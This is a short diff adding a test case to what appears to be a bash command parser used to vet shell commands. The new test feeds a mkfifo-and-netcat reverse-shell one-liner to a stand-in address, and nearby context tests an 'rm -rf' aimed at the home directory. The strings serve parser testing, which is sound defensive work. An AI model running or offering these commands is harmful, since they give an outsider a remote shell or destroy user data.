@@ -273,6 +273,11 @@ describe('a listing read item by item is what the lister prints', () => {
     expect(facts('source venv/bin/activate').indeterminate).toEqual([]);
   });
 
+  it('reads a descriptor glued to the statement’s redirection as bash does, not as an argument', () => {
+    expect(only(facts('mkfifo /tmp/p; nc 203.0.113.7 4444 0</tmp/p | /bin/sh > /tmp/p 2>&1'), 'nc').argv).toEqual(['nc', '203.0.113.7', '4444']);
+    expect(only(facts('nc 203.0.113.7 4444 0 </tmp/p | sh'), 'nc').argv).toEqual(['nc', '203.0.113.7', '4444', '0']);
+  });
+
   it('keeps a word made only of escaped blanks, which tree-sitter drops (bash passes " ")', () => {
     expect(only(facts('npm --otp 1 publish \\  --access public'), 'npm').argv).toEqual(['npm', '--otp', '1', 'publish', ' ', '--access', 'public']);
     expect(only(facts('rm -rf \\ \\  ~'), 'rm').argv).toEqual(['rm', '-rf', '  ', '/home/dev']);
